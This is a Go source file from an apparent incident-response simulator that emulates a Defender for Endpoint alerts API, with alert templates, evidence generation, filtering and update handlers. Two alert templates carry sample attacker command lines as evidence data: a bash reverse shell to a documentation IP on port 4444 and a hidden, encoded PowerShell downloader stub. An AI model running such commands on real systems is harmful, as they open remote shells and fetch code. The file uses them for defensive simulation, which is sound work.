package defendersim

import (
	"encoding/json"
	"fmt"
	"slices"
	"strings"
	"time"

	"github.com/quarry-dfir/quarry/defendersim/odata"
	"github.com/quarry-dfir/quarry/simhost"
)

// Evidence is one alert evidence entity (§7.2): flat and mostly null.
type Evidence struct {
	EntityType                string  `json:"entityType"`
	EvidenceCreationTime      string  `json:"evidenceCreationTime"`
	SHA1                      *string `json:"sha1"`
	SHA256                    *string `json:"sha256"`
	FileName                  *string `json:"fileName"`
	FilePath                  *string `json:"filePath"`
	ProcessID                 *int    `json:"processId"`
	ProcessCommandLine        *string `json:"processCommandLine"`
	ProcessCreationTime       *string `json:"processCreationTime"`
	ParentProcessID           *int    `json:"parentProcessId"`
	ParentProcessCreationTime *string `json:"parentProcessCreationTime"`
	ParentProcessFileName     *string `json:"parentProcessFileName"`
	ParentProcessFilePath     *string `json:"parentProcessFilePath"`
	IPAddress                 *string `json:"ipAddress"`
	URL                       *string `json:"url"`
	RegistryKey               *string `json:"registryKey"`
	RegistryHive              *string `json:"registryHive"`
	RegistryValueType         *string `json:"registryValueType"`
	RegistryValue             *string `json:"registryValue"`
	AccountName               *string `json:"accountName"`
	DomainName                *string `json:"domainName"`
	UserSID                   *string `json:"userSid"`
	AADUserID                 *string `json:"aadUserId"`
	UserPrincipalName         *string `json:"userPrincipalName"`
	DetectionStatus           *string `json:"detectionStatus"`
}

// Alert is an alert as the API returns it (§7.2).
type Alert struct {
	ID                 string         `json:"id"`
	IncidentID         *int64         `json:"incidentId"`
	InvestigationID    *int64         `json:"investigationId"`
	AssignedTo         *string        `json:"assignedTo"`
	Severity           string         `json:"severity"`
	Status             string         `json:"status"`
	Classification     *string        `json:"classification"`
	Determination      *string        `json:"determination"`
	InvestigationState *string        `json:"investigationState"`
	DetectionSource    string         `json:"detectionSource"`
	DetectorID         string         `json:"detectorId"`
	Category           string         `json:"category"`
	ThreatFamilyName   *string        `json:"threatFamilyName"`
	Title              string         `json:"title"`
	Description        string         `json:"description"`
	AlertCreationTime  string         `json:"alertCreationTime"`
	FirstEventTime     string         `json:"firstEventTime"`
	LastEventTime      string         `json:"lastEventTime"`
	LastUpdateTime     string         `json:"lastUpdateTime"`
	ResolvedTime       *string        `json:"resolvedTime"`
	MachineID          string         `json:"machineId"`
	ComputerDNSName    string         `json:"computerDnsName"`
	RbacGroupName      *string        `json:"rbacGroupName"`
	AADTenantID        string         `json:"aadTenantId"`
	ThreatName         *string        `json:"threatName"`
	MitreTechniques    []string       `json:"mitreTechniques"`
	RelatedUser        *RelatedUser   `json:"relatedUser"`
	Comments           []AlertComment `json:"comments"`
	Evidence           []Evidence     `json:"evidence"`
}

// RelatedUser is the user an alert is about.
type RelatedUser struct {
	UserName   string `json:"userName"`
	DomainName string `json:"domainName"`
}

// AlertComment is one comment on an alert.
type AlertComment struct {
	Comment     string `json:"comment"`
	CreatedBy   string `json:"createdBy"`
	CreatedTime string `json:"createdTime"`
}

// alert is an alert and the (real) time it becomes visible.
type alert struct {
	a       Alert
	appears time.Time
	created time.Time
	updated time.Time
}

type alertTemplate struct {
	os, title, desc, category, severity, source string
	mitre                                       []string
	evidence                                    func(st simhost.Story, d *device) []Evidence
	family                                      string
}

func fileEvidence(path string) Evidence {
	dir, name := splitHostPath(path)
	return Evidence{EntityType: "File", FilePath: ptr(dir), FileName: ptr(name), DetectionStatus: ptr("Detected")}
}

func processEvidence(cmdline, image string) Evidence {
	dir, name := splitHostPath(image)
	return Evidence{EntityType: "Process", FileName: ptr(name), FilePath: ptr(dir), ProcessCommandLine: ptr(cmdline),
		ProcessID: ptr(1000 + len(cmdline)*37%30000), DetectionStatus: ptr("Detected")}
}

func splitHostPath(p string) (dir, name string) {
	i := strings.LastIndexAny(p, `\/`)
	if i < 0 {
		return "", p
	}
	return p[:i], p[i+1:]
}

func userEvidence(user, domain string) Evidence {
	return Evidence{EntityType: "User", AccountName: ptr(user), DomainName: ptr(domain)}
}

func ipEvidence(ip string) Evidence { return Evidence{EntityType: "Ip", IPAddress: ptr(ip)} }

// storyCommand picks the attacker command that contains marker, so the evidence matches the artifacts.
func storyCommand(st simhost.Story, marker, fallback string) string {
	for _, c := range st.Commands {
		if strings.Contains(strings.ToLower(c), marker) {
			return c
		}
	}
	return fallback
}

var alertTemplates = []alertTemplate{
	{os: "windows", title: "Multiple failed logon attempts followed by a successful logon", category: "CredentialAccess", severity: "High",
		source: "WindowsDefenderAtp", mitre: []string{"T1110", "T1110.001", "T1078"},
		desc: "A remote address made many failed RDP logon attempts and then signed in successfully.",
		evidence: func(st simhost.Story, d *device) []Evidence {
			return []Evidence{ipEvidence(st.AttackerIP), userEvidence(st.User, "CONTOSO")}
		}},
	{os: "windows", title: "Suspicious PowerShell command line", category: "Execution", severity: "Medium",
		source: "WindowsDefenderAtp", mitre: []string{"T1059.001", "T1105"},
		desc: "A process launched PowerShell with a command line typical of downloaders.",
		evidence: func(st simhost.Story, d *device) []Evidence {
			return []Evidence{processEvidence(storyCommand(st, "powershell", "powershell.exe -nop -w hidden -enc SQBFAFgA"), `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`)}
		}},
	{os: "windows", title: "Suspicious scheduled task", category: "Persistence", severity: "Medium",
		source: "WindowsDefenderAtp", mitre: []string{"T1053.005"},
		desc: "A scheduled task that runs a binary from a user-writable folder was registered.",
		evidence: func(st simhost.Story, d *device) []Evidence {
			return []Evidence{fileEvidence(orDefault(st.PersistencePath, `C:\Windows\System32\Tasks\OneDriveUpdater`))}
		}},
	{os: "windows", title: "'Mimikatz' credential theft tool detected", category: "Malware", severity: "High",
		source: "WindowsDefenderAv", mitre: []string{"T1003.001"}, family: "Mimikatz",
		desc: "Microsoft Defender Antivirus detected a credential theft tool.",
		evidence: func(st simhost.Story, d *device) []Evidence {
			return []Evidence{fileEvidence(orDefault(st.PayloadPath, `C:\Users\Public\m.exe`))}
		}},
	{os: "linux", title: "Possible SSH brute-force attack", category: "CredentialAccess", severity: "Medium",
		source: "WindowsDefenderAtp", mitre: []string{"T1110.001"},
		desc: "Many failed SSH authentications from one address were followed by a successful logon.",
		evidence: func(st simhost.Story, d *device) []Evidence {
			return []Evidence{ipEvidence(st.AttackerIP), userEvidence(st.User, strings.SplitN(d.m.ComputerDNSName, ".", 2)[0])}
		}},
	{os: "linux", title: "Suspicious cron job or service created", category: "Persistence", severity: "Medium",
		source: "WindowsDefenderAtp", mitre: []string{"T1053.003", "T1543.002"},
		desc: "A new scheduled job starts a binary from a temporary folder.",
		evidence: func(st simhost.Story, d *device) []Evidence {
			return []Evidence{fileEvidence(orDefault(st.PersistencePath, "/etc/cron.d/sysupdate"))}
		}},
	{os: "linux", title: "Reverse shell activity", category: "Execution", severity: "High",
		source: "WindowsDefenderAtp", mitre: []string{"T1059.004", "T1071"},
		desc: "A shell was started with its input and output redirected to a remote address.",
		evidence: func(st simhost.Story, d *device) []Evidence {
			return []Evidence{processEvidence(storyCommand(st, "/dev/tcp", "bash -i >& /dev/tcp/198.51.100.9/4444 0>&1"), "/usr/bin/bash")}
		}},
	{os: "macos", title: "Suspicious launch agent created", category: "Persistence", severity: "Medium",
		source: "WindowsDefenderAtp", mitre: []string{"T1543.001"},
		desc: "A launch agent that starts an unsigned binary was created.",
		evidence: func(st simhost.Story, d *device) []Evidence {
			return []Evidence{fileEvidence(orDefault(st.PersistencePath, "/Library/LaunchAgents/com.apple.updater.plist"))}
		}},
	{os: "macos", title: "Suspicious installer package executed", category: "InitialAccess", severity: "Low",
		source: "WindowsDefenderAtp", mitre: []string{"T1204.002", "T1059.002"},
		desc: "An installer package downloaded from an unusual address ran scripts with root privileges.",
		evidence: func(st simhost.Story, d *device) []Evidence {
			return []Evidence{fileEvidence(orDefault(st.PayloadPath, "/private/tmp/update.pkg")), ipEvidence(st.AttackerIP)}
		}},
}

func orDefault(s, d string) string {
	if s == "" {
		return d
	}
	return s
}

// generateAlerts plans every alert of the run. Each compromised device gets its OS's alerts; on half of
// them the first alert already exists at start and the rest appear over the next simulated hours.
func generateAlerts(seed int64, tenant string, devs []*device, clk clock, anchor time.Time) []*alert {
	var out []*alert
	incident := int64(4000 + newGen(seed, 7).intn(50000))
	for n, d := range devs {
		if !d.host.Compromised {
			continue
		}
		g := newGen(seed, 1_000_000+uint64(n))
		h := d.host
		h.Anchor = anchor
		st := simhost.StoryFor(h)
		if st.AttackerIP == "" {
			st.AttackerIP = fmt.Sprintf("198.51.100.%d", 1+g.intn(250))
		}
		if st.User == "" {
			st.User = "svc-backup"
		}
		var tmpls []alertTemplate
		for _, t := range alertTemplates {
			if t.os == d.host.OS {
				tmpls = append(tmpls, t)
			}
		}
		incident += int64(1 + g.intn(40))
		early := g.chance(0.5)
		offset := time.Duration(0)
		for k, t := range tmpls {
			if k > 0 && g.chance(0.3) {
				continue
			}
			var appears time.Time
			if early && k == 0 {
				appears = clk.start.Add(-time.Duration(1+g.intn(47)) * time.Hour)
			} else {
				offset += time.Duration(2+g.intn(40)) * time.Minute
				appears = clk.at(offset)
			}
			out = append(out, newAlert(g, t, st, d, tenant, incident, appears))
		}
	}
	slices.SortStableFunc(out, func(a, b *alert) int { return a.appears.Compare(b.appears) })
	return out
}

func newAlert(g *gen, t alertTemplate, st simhost.Story, d *device, tenant string, incident int64, appears time.Time) *alert {
	first, last := appears.Add(-time.Duration(3+g.intn(20))*time.Minute), appears.Add(-time.Minute)
	if !st.FirstSuccess.IsZero() {
		// Event times come from the artifacts on the device, so the timeline and the alert agree.
		first = st.FirstSuccess
		last = orTime(st.LastActivity, first.Add(time.Minute))
		if !st.BruteForceStart.IsZero() && t.category == "CredentialAccess" {
			first, last = st.BruteForceStart, st.FirstSuccess
		}
	}
	a := Alert{
		ID:                 fmt.Sprintf("da%018d_%d", 638_000_000_000_000_000+g.r.Int64N(1_000_000_000_000_000), -int64(1+g.intn(2_000_000_000))),
		IncidentID:         ptr(incident),
		Severity:           t.severity,
		Status:             "New",
		InvestigationState: ptr(pick(g, []string{"Queued", "Running", "PendingApproval", "UnsupportedAlertType"})),
		DetectionSource:    t.source,
		DetectorID:         g.guid(),
		Category:           t.category,
		Title:              t.title,
		Description:        t.desc,
		FirstEventTime:     mdeTime(first),
		LastEventTime:      mdeTime(last),
		MachineID:          d.m.ID,
		ComputerDNSName:    d.m.ComputerDNSName,
		RbacGroupName:      d.m.RbacGroupName,
		AADTenantID:        tenant,
		MitreTechniques:    append([]string{}, t.mitre...),
		Comments:           []AlertComment{},
	}
	if g.chance(0.6) {
		a.InvestigationID = ptr(int64(10000 + g.intn(90000)))
	}
	if t.family != "" {
		a.ThreatFamilyName = ptr(t.family)
		a.ThreatName = ptr("HackTool:Win32/" + t.family)
	}
	if st.User != "" {
		dom := "CONTOSO"
		if d.host.OS != "windows" {
			dom = strings.SplitN(d.m.ComputerDNSName, ".", 2)[0]
		}
		a.RelatedUser = &RelatedUser{UserName: st.User, DomainName: dom}
	}
	a.Evidence = t.evidence(st, d)
	for i := range a.Evidence {
		a.Evidence[i].EvidenceCreationTime = mdeTime(appears)
	}
	return &alert{a: a, appears: appears, created: appears, updated: appears}
}

func orTime(t, d time.Time) time.Time {
	if t.IsZero() {
		return d
	}
	return t
}

// render returns the alert as the API shows it; evidence only with $expand=evidence (§11.9).
func (al *alert) render(expand bool) Alert {
	a := al.a
	a.AlertCreationTime = mdeTime(al.created)
	a.LastUpdateTime = mdeTime(al.updated)
	a.Comments = append([]AlertComment{}, al.a.Comments...)
	a.MitreTechniques = append([]string{}, al.a.MitreTechniques...)
	a.Evidence = []Evidence{}
	if expand {
		a.Evidence = append(a.Evidence, al.a.Evidence...)
	}
	return a
}

var alertSchema = odata.Schema{
	"alertCreationTime": odata.Time, "lastUpdateTime": odata.Time, "incidentId": odata.Number,
	"investigationId": odata.Number, "id": odata.String, "assignedTo": odata.String, "detectionSource": odata.String,
	"lastEventTime": odata.Time, "status": odata.String, "severity": odata.String, "category": odata.String,
}

func alertField(al *alert) odata.Getter {
	num := func(p *int64) any {
		if p == nil {
			return nil
		}
		return float64(*p)
	}
	return func(prop string) any {
		a := &al.a
		switch prop {
		case "alertCreationTime":
			return wireTime(al.created)
		case "lastUpdateTime":
			return wireTime(al.updated)
		case "incidentId":
			return num(a.IncidentID)
		case "investigationId":
			return num(a.InvestigationID)
		case "id":
			return a.ID
		case "assignedTo":
			return nullable(a.AssignedTo)
		case "detectionSource":
			return a.DetectionSource
		case "lastEventTime":
			t, _ := time.Parse(time.RFC3339Nano, a.LastEventTime)
			return t
		case "status":
			return a.Status
		case "severity":
			return a.Severity
		case "category":
			return a.Category
		}
		return nil
	}
}

// matchAlerts returns the alerts that exist at now and pass the query, oldest first, optionally for
// one machine.
func (s *Sim) matchAlerts(c *call, q listQuery, machineID string) []Alert {
	s.mu.Lock()
	defer s.mu.Unlock()
	var items []Alert
	for _, al := range s.alerts {
		if al.appears.After(c.now) || (machineID != "" && al.a.MachineID != machineID) {
			continue
		}
		if q.filter.Match(alertField(al)) {
			items = append(items, al.render(q.expand == "evidence"))
		}
	}
	return items
}

func (s *Sim) listAlertsFor(c *call, machineID string) error {
	q, err := s.parseQuery(c, alertSchema, "evidence")
	if err != nil {
		return err
	}
	page, next := paginate(c, q, s.matchAlerts(c, q, machineID))
	writeJSON(c.w, 200, collection(c, "Alerts", page, next))
	return nil
}

func (s *Sim) listAlerts(c *call) error { return s.listAlertsFor(c, "") }

func (s *Sim) listMachineAlerts(c *call) error {
	d := s.findDevice(c.vars[0])
	if d == nil {
		return notFound("Machine %s was not found", c.vars[0])
	}
	return s.listAlertsFor(c, d.m.ID)
}

// countMachineAlerts serves `/api/machines/{id}/alerts/$count`, which answers a bare number (§2.3).
func (s *Sim) countMachineAlerts(c *call) error {
	d := s.findDevice(c.vars[0])
	if d == nil {
		return notFound("Machine %s was not found", c.vars[0])
	}
	q, err := s.parseQuery(c, alertSchema)
	if err != nil {
		return err
	}
	c.w.Header().Set("Content-Type", "text/plain; charset=utf-8")
	c.w.Header().Set("OData-Version", odataVersion)
	fmt.Fprint(c.w, len(s.matchAlerts(c, q, d.m.ID)))
	return nil
}

func (s *Sim) findAlertLocked(id string, now time.Time) *alert {
	for _, al := range s.alerts {
		if al.a.ID == id && !al.appears.After(now) {
			return al
		}
	}
	return nil
}

func (s *Sim) getAlert(c *call) error {
	q, err := s.parseQuery(c, nil, "evidence")
	if err != nil {
		return err
	}
	s.mu.Lock()
	defer s.mu.Unlock()
	al := s.findAlertLocked(c.vars[0], c.now)
	if al == nil {
		return notFound("Alert %s was not found", c.vars[0])
	}
	// A single alert carries its evidence only on request too.
	writeJSON(c.w, 200, entity(c, "Alerts/$entity", al.render(q.expand == "evidence")))
	return nil
}

var (
	alertStatuses       = []string{"New", "InProgress", "Resolved"}
	alertClassification = []string{"TruePositive", "InformationalExpectedActivity", "FalsePositive"}
	// Both doc pages' spellings are accepted; the resource page's is stored (§7.3).
	alertDetermination = map[string]string{
		"MultiStagedAttack": "MultiStagedAttack", "MaliciousUserActivity": "MaliciousUserActivity",
		"CompromisedUser": "CompromisedUser", "Malware": "Malware", "Phishing": "Phishing",
		"UnwantedSoftware": "UnwantedSoftware", "Other": "Other", "SecurityTesting": "SecurityTesting",
		"LineOfBusinessApplication": "LineOfBusinessApplication", "ConfirmedUserActivity": "ConfirmedUserActivity",
		"ConfirmedActivity": "ConfirmedUserActivity", "Clean": "Clean", "NotMalicious": "Clean",
		"InsufficientData": "InsufficientData",
	}
)

func (s *Sim) updateAlert(c *call) error {
	body, err := decodeBody(c, []string{"status", "assignedTo", "classification", "determination", "comment"}, nil)
	if err != nil {
		return err
	}
	str := func(key string) (*string, error) {
		raw, ok := body[key]
		if !ok {
			return nil, nil
		}
		var v *string
		if err := json.Unmarshal(raw, &v); err != nil {
			return nil, badRequest("InvalidRequestBody", "Property '%s' must be a string", key)
		}
		return v, nil
	}
	vals := map[string]*string{}
	for _, k := range []string{"status", "assignedTo", "classification", "determination", "comment"} {
		v, err := str(k)
		if err != nil {
			return err
		}
		vals[k] = v
	}
	if v := vals["status"]; v != nil && !slices.Contains(alertStatuses, *v) {
		return badRequest("InvalidInput", "Invalid status '%s'; expected one of %s", *v, strings.Join(alertStatuses, ", "))
	}
	if v := vals["classification"]; v != nil && !slices.Contains(alertClassification, *v) {
		return badRequest("InvalidInput", "Invalid classification '%s'; expected one of %s", *v, strings.Join(alertClassification, ", "))
	}
	if v := vals["determination"]; v != nil {
		canon, ok := alertDetermination[*v]
		if !ok {
			return badRequest("InvalidInput", "Invalid determination '%s'", *v)
		}
		vals["determination"] = &canon
	}

	s.mu.Lock()
	defer s.mu.Unlock()
	al := s.findAlertLocked(c.vars[0], c.now)
	if al == nil {
		return notFound("Alert %s was not found", c.vars[0])
	}
	a := &al.a
	if v := vals["status"]; v != nil {
		a.Status = *v
		if *v == "Resolved" {
			a.ResolvedTime = ptr(mdeTime(c.now))
		} else {
			a.ResolvedTime = nil
		}
	}
	if _, ok := body["assignedTo"]; ok {
		a.AssignedTo = vals["assignedTo"]
	}
	if _, ok := body["classification"]; ok {
		a.Classification = vals["classification"]
	}
	if _, ok := body["determination"]; ok {
		a.Determination = vals["determination"]
	}
	if v := vals["comment"]; v != nil && *v != "" {
		a.Comments = append(a.Comments, AlertComment{Comment: *v, CreatedBy: c.requestor(), CreatedTime: mdeTime(c.now)})
	}
	al.updated = c.now
	writeJSON(c.w, 200, entity(c, "Alerts/$entity", al.render(false)))
	return nil
}
